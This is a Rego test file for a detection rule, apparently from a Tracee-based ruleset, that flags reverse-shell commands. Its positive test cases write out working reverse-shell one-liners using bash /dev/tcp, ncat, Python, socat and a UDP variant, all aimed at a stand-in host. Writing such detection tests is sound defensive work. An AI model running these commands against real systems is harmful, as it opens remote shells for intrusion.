package tocsin.tests.reverse_shell_command

import data.tocsin.rules.reverse_shell_command as rule
import data.tocsin.testing

fires(ev) if {
	testing.selects(rule.tracee_selected_events, ev)
	match := rule.tracee_match with input as ev
	match != false
}

executed(argv) := testing.executed(argv[0], argv, {})

test_match_dev_tcp if fires(executed(["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]))

test_match_netcat if fires(executed(["/usr/bin/ncat", "203.0.113.5", "4444", "-e", "/bin/sh"]))

test_match_python if {
	fires(executed(["/usr/bin/python3.11", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));pty.spawn('sh')"]))
}

test_match_socat if fires(executed(["/usr/bin/socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh,pty"]))

test_evasion_udp if fires(executed(["/bin/bash", "-c", "sh -i 5<> /dev/udp/203.0.113.5/53 0<&5"]))

test_near_miss_listening if not fires(executed(["/usr/bin/ncat", "-l", "4444"]))

test_near_miss_python_server if not fires(executed(["/usr/bin/python3.11", "-c", "import socket; print(socket.gethostname())"]))

test_near_miss_text if not fires(executed(["/usr/bin/ls", "/dev/shm"]))
